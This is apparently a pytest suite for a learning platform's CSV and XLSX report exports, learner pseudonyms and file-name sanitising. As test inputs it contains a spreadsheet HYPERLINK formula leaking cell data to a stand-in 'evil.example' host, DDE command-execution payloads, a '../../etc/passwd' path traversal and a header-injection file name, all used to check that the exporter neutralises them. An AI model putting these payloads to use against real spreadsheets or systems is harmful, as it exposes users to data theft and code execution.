"""Report tables downloaded as CSV and XLSX, read back as R, SPSS and Excel would read them; learners' pseudonyms."""

from __future__ import annotations

import csv
import datetime as dt
import io
import stat
import threading
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from lms.reports import exports
from lms.reports.exports import About, filename, pseudonym, pseudonym_key, pseudonymise, to_csv, to_xlsx
from lms.reports.tables import Column, Suppressed, Table

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def completion() -> Table:
    """Completion by country: a label column, then a count, a share, a score and a number."""
    return Table(
        title="Completion by country",
        columns=[Column("country", "Country"), Column("learners", "Learners", "count"),
                 Column("completed", "Completed", "share"), Column("score", "Mean score", "score"),
                 Column("hours", "Hours of study", "number")],
        rows=[["Ghana", 120, 0.73456789, 0.8125, 12.345678],
              ["Côte d’Ivoire", 40, Decimal("0.5"), 0.61, 3],
              ["Mali", Suppressed(), Suppressed(), Suppressed(), None],
              ["Россия", 7, 1, None, -2.5]],
        description="Learners enrolled and the share who completed the course, by country.",
        name="completion-by-country")


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


# -- CSV --------------------------------------------------------------------------------------------------------


def test_csv_has_the_labels_then_plain_numbers_rounded_to_four_places():
    rows = read_csv(to_csv(completion()))
    assert rows == [
        ["Country", "Learners", "Completed", "Mean score", "Hours of study"],
        ["Ghana", "120", "0.7346", "0.8125", "12.3457"],
        ["Côte d’Ivoire", "40", "0.5", "0.61", "3"],
        ["Mali", "< 5", "< 5", "< 5", ""],
        ["Россия", "7", "1", "", "-2.5"],
    ]


def test_csv_starts_with_a_byte_order_mark_and_ends_lines_with_crlf():
    data = to_csv(completion())
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 5 and data.count(b"\n") == 5


def test_csv_quotes_commas_quotes_and_line_breaks_in_text():
    table = Table("Comments", [Column("comment", "Comment")], [['Good, "very" good\nthanks']])
    assert b'"Good, ""very"" good\nthanks"' in to_csv(table)
    assert read_csv(to_csv(table))[1] == ['Good, "very" good\nthanks']


@pytest.mark.parametrize("text", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
def test_csv_prefixes_text_a_spreadsheet_would_run_as_a_formula(text):
    table = Table("Answers", [Column("answer", "Answer"), Column("score", "Score", "number")], [[text, -4.5]])
    assert read_csv(to_csv(table))[1] == ["'" + text, "-4.5"]  # a negative number is a number, never prefixed


def test_csv_prefixes_a_formula_in_a_column_label():
    table = Table("Cohorts", [Column("cohort", "=cmd|' /C calc'!A0")], [])
    assert read_csv(to_csv(table))[0] == ["'=cmd|' /C calc'!A0"]


def test_csv_keeps_arabic_and_cyrillic_text():
    table = Table("Learners", [Column("name", "الاسم"), Column("city", "Город")], [["فاطمة", "Москва"]])
    assert read_csv(to_csv(table)) == [["الاسم", "Город"], ["فاطمة", "Москва"]]


def test_csv_drops_control_characters_before_looking_for_formulas():
    table = Table("Answers", [Column("answer", "Answer")], [["\x00\x07=1+1"]])
    assert read_csv(to_csv(table))[1] == ["'=1+1"]


def test_a_row_of_the_wrong_length_is_refused():
    table = Table("Broken", [Column("a", "A"), Column("b", "B")], [["only one"]])
    with pytest.raises(ValueError, match="Row 1"):
        to_csv(table)
    with pytest.raises(ValueError, match="Row 1"):
        to_xlsx([table])


# -- XLSX -------------------------------------------------------------------------------------------------------


def test_xlsx_has_a_sheet_per_table_from_a1_with_a_bold_header():
    workbook = read_xlsx(to_xlsx([completion()]))
    assert workbook.sheetnames == ["Completion by country", "About"]
    sheet = workbook["Completion by country"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows == [
        ["Country", "Learners", "Completed", "Mean score", "Hours of study"],
        ["Ghana", 120, 0.7346, 0.8125, 12.3457],
        ["Côte d’Ivoire", 40, 0.5, 0.61, 3],
        ["Mali", "< 5", "< 5", "< 5", None],
        ["Россия", 7, 1, None, -2.5],
    ]
    assert all(cell.font.bold for cell in sheet[1])
    assert not any(cell.font.bold for cell in sheet[2])
    assert workbook.active.title == "Completion by country"


def test_xlsx_formats_numbers_by_kind_of_column():
    sheet = read_xlsx(to_xlsx([completion()]))["Completion by country"]
    ghana = sheet[2]
    assert [cell.number_format for cell in ghana] == ["General", "0", "0.0%", "0.0%", "0.00"]
    assert [cell.data_type for cell in ghana] == ["s", "n", "n", "n", "n"]


def test_xlsx_writes_suppressed_cells_as_text():
    sheet = read_xlsx(to_xlsx([completion()]))["Completion by country"]
    mali = sheet[4]
    assert [(cell.value, cell.data_type) for cell in mali[1:4]] == [("< 5", "s")] * 3
    assert mali[1].alignment.horizontal == "right"


def test_xlsx_freezes_the_header_and_a_label_column():
    numbers_only = Table("Totals", [Column("learners", "Learners", "count"), Column("share", "Share", "share")],
                         [[3, 0.5]])
    single = Table("Names", [Column("name", "Name")], [["Ama"]])
    workbook = read_xlsx(to_xlsx([completion(), numbers_only, single]))
    assert [sheet.freeze_panes for sheet in workbook] == ["B2", "A2", "A2", "A2"]


def test_xlsx_fits_column_widths_to_their_content_within_bounds():
    long = "A very long comment " * 20
    table = Table("Comments", [Column("id", "Id"), Column("comment", "Comment"), Column("country", "Country")],
                  [["1", long, "Côte d’Ivoire"]])
    widths = read_xlsx(to_xlsx([table]))["Comments"].column_dimensions
    assert widths["A"].width == exports.MIN_WIDTH
    assert widths["B"].width == exports.MAX_WIDTH
    assert widths["C"].width == len("Côte d’Ivoire") + 2


def test_xlsx_keeps_formulas_as_text():
    table = Table("Answers", [Column("answer", "Answer"), Column("score", "Score", "number")],
                  [[HYPERLINK, -4.5], ["@SUM(A1:A2)", 1]])
    data = to_xlsx([table])
    sheet = read_xlsx(data)["Answers"]
    link = sheet["A2"]
    assert (link.value, link.data_type) == (HYPERLINK, "s")
    assert link.quotePrefix  # text for Excel even once the cell is edited
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("@SUM(A1:A2)", "s")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-4.5, "n")
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


def test_xlsx_keeps_arabic_and_cyrillic_text_and_lays_sheets_right_to_left_when_asked():
    table = Table("المتعلمون", [Column("name", "الاسم"), Column("city", "Город")], [["فاطمة", "Москва"]])
    workbook = read_xlsx(to_xlsx([table], rtl=True))
    assert workbook.sheetnames[0] == "المتعلمون"
    sheet = workbook["المتعلمون"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [["الاسم", "Город"], ["فاطمة", "Москва"]]
    assert all(sheet.sheet_view.rightToLeft for sheet in workbook)
    assert not any(sheet.sheet_view.rightToLeft for sheet in read_xlsx(to_xlsx([table])))


def test_xlsx_makes_valid_distinct_sheet_names():
    titles = ["Completion: by country/region [2024]?", "Completion: by country/region [2024]*", "completion BY country",
              "Completion by country", "'Quoted'", "History", "???", "About"]
    tables = [Table(title, [Column("a", "A")], []) for title in titles]
    names = read_xlsx(to_xlsx(tables)).sheetnames
    assert len(names) == len(titles) + 1
    assert len({name.casefold() for name in names}) == len(names)
    for name in names:
        assert 0 < len(name) <= 31
        assert not set(name) & set("[]:*?/\\")
        assert not name.startswith("'") and not name.endswith("'")
    assert names[0] == "Completion by country region 20"
    assert names[1] == "Completion by country regio (2)"
    assert names[2] == "completion BY country"
    assert names[3] == "Completion by country (2)"
    assert names[4] == "Quoted"
    assert names[5] == "History (2)"  # Excel keeps "History" for itself
    assert names[6] == "Sheet"
    assert names[7:] == ["About", "About (2)"]


def test_xlsx_about_sheet_says_what_each_sheet_shows_in_the_readers_language():
    french = {"About": "À propos", "Sheet": "Feuille", "Table": "Tableau", "What it shows": "Ce qu’il montre"}
    workbook = read_xlsx(to_xlsx([completion()], about=About().translated(french.get)))
    assert workbook.sheetnames == ["Completion by country", "À propos"]
    about = workbook["À propos"]
    assert [[cell.value for cell in row] for row in about.iter_rows()] == [
        ["Feuille", "Tableau", "Ce qu’il montre"],
        ["Completion by country", "Completion by country", completion().description],
    ]


def test_xlsx_is_the_same_bytes_for_the_same_tables():
    data = to_xlsx([completion()])
    assert data == to_xlsx([completion()])
    assert {info.date_time for info in zipfile.ZipFile(io.BytesIO(data)).infolist()} == {(1980, 1, 1, 0, 0, 0)}
    properties = read_xlsx(data).properties
    assert properties.created == properties.modified == dt.datetime(2000, 1, 1)


def test_xlsx_drops_characters_xml_cannot_hold_and_cuts_text_excel_cannot_hold():
    table = Table("Answers", [Column("answer", "Answer")], [["bell\x07 and \x1b escape"], ["x" * 40_000]])
    sheet = read_xlsx(to_xlsx([table]))["Answers"]
    assert sheet["A2"].value == "bell and  escape"
    assert len(sheet["A3"].value) == 32_767


def test_xlsx_leaves_no_value_empty_and_not_a_number_empty():
    table = Table("Scores", [Column("score", "Score", "score")], [[None], [float("nan")], [float("inf")]])
    sheet = read_xlsx(to_xlsx([table]))["Scores"]
    assert [sheet.cell(row=row, column=1).value for row in (2, 3, 4)] == [None, None, None]
    assert read_csv(to_csv(table))[1:] == [[""], [""], [""]]


# -- pseudonyms -------------------------------------------------------------------------------------------------


def test_a_pseudonym_is_stable_for_a_key_and_differs_between_keys():
    key, other = b"k" * 32, b"o" * 32
    first = pseudonym(key, "acct:4f1c2a")
    assert first == pseudonym(key, "acct:4f1c2a")
    assert first.startswith("P-") and len(first) == 18
    assert int(first[2:], 16) >= 0
    assert first != pseudonym(key, "acct:4f1c2b")
    assert first != pseudonym(other, "acct:4f1c2a")


def test_a_pseudonym_needs_a_real_key():
    with pytest.raises(ValueError):
        pseudonym(b"", "acct:4f1c2a")


def test_a_pseudonymised_export_holds_no_actor_id():
    key = b"k" * 32
    table = Table("Scores", [Column("learner", "Learner"), Column("score", "Score", "score")],
                  [["acct:4f1c2a", 0.9], ["acct:77b0e1", 0.4], [None, 0.5]])
    exported = pseudonymise(table, key, "learner")
    assert table.rows[0][0] == "acct:4f1c2a"  # the table given is left as it was
    assert [row[0] for row in exported.rows] == [pseudonym(key, "acct:4f1c2a"), pseudonym(key, "acct:77b0e1"), None]
    csv_data, xlsx_data = to_csv(exported), to_xlsx([exported])
    assert b"acct:" not in csv_data
    with zipfile.ZipFile(io.BytesIO(xlsx_data)) as archive:
        assert not any(b"acct:" in archive.read(name) for name in archive.namelist())
    assert read_csv(csv_data)[1][0] == pseudonym(key, "acct:4f1c2a")


def test_the_pseudonym_key_is_made_once_readable_by_its_owner_only(tmp_path):
    instance = tmp_path / "instance"
    key = pseudonym_key(instance)
    assert len(key) == 32
    path = instance / exports.KEY_FILE
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert pseudonym_key(instance) == key
    assert pseudonym_key(tmp_path / "another") != key
    assert [child.name for child in instance.iterdir()] == [exports.KEY_FILE]


def test_learners_made_at_once_get_one_key(tmp_path):
    start = threading.Barrier(8)
    keys, errors = [], []

    def export() -> None:
        start.wait()
        try:
            keys.append(pseudonym_key(tmp_path))
        except Exception as error:  # noqa: BLE001 -- the test reports it below
            errors.append(error)

    threads = [threading.Thread(target=export) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert len(keys) == 8 and len(set(keys)) == 1
    assert [child.name for child in tmp_path.iterdir()] == [exports.KEY_FILE]


def test_a_damaged_key_file_is_reported_not_replaced(tmp_path):
    (tmp_path / exports.KEY_FILE).write_text("not a key")
    with pytest.raises(ValueError, match="move it away"):
        pseudonym_key(tmp_path)
    assert (tmp_path / exports.KEY_FILE).read_text() == "not a key"


# -- file names -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "expected"), [
    ("completion-by-country", "completion-by-country-2024-03-05.csv"),
    ("Réussite par pays", "reussite-par-pays-2024-03-05.csv"),
    ("../../etc/passwd", "etc-passwd-2024-03-05.csv"),
    ('a"b\r\nContent-Type: text/html', "a-b-content-type-text-html-2024-03-05.csv"),
    ("نتائج", "report-2024-03-05.csv"),
])
def test_file_names_are_ascii_letters_digits_and_dashes(name, expected):
    assert filename(name, "csv", dt.date(2024, 3, 5)) == expected


def test_a_file_name_comes_from_the_tables_name():
    assert filename(completion(), ".XLSX", dt.date(2024, 3, 5)) == "completion-by-country-2024-03-05.xlsx"


def test_a_file_name_extension_is_letters_and_digits():
    with pytest.raises(ValueError):
        filename("report", "csv/../x", dt.date(2024, 3, 5))
